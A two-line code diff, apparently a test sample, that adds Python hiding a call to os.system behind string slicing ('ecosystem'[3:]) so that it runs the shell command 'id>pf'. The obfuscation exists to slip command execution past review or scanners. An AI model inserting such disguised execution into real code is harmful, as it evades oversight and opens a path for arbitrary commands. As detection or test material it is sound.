@@ -1,0 +1,2 @@
+import os
+getattr(os, "ecosystem"[3:])("id>pf")
